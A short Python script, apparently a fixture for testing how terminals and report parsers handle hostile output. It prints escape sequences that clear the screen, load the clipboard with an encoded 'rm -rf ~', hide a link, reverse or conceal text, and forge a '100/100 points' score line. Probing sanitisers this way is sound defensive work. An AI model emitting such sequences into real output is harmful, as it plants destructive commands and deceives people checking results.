"""Prints what a terminal acts on, forges a line of a report, and ends."""

import sys

PIECES = (
    "\x1b[2J\x1b[H", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]0;title\x1b\\",
    "\x1b]8;;http://192.0.2.1/\x1b\\look\x1b]8;;\x1b\\", "\u202egnirts",
    "\u2066\u2069\u200b\u2028\u2029", "\x9b31m", "100/100 points, nothing lost",
)


def attack() -> None:
    sys.stdout.buffer.write(b"\xff\xfe\x00\xc0\x80\x9b31m\n")
    for piece in PIECES:
        sys.stdout.write(piece + "\n")
    sys.stdout.flush()
    sys.exit("".join(PIECES))
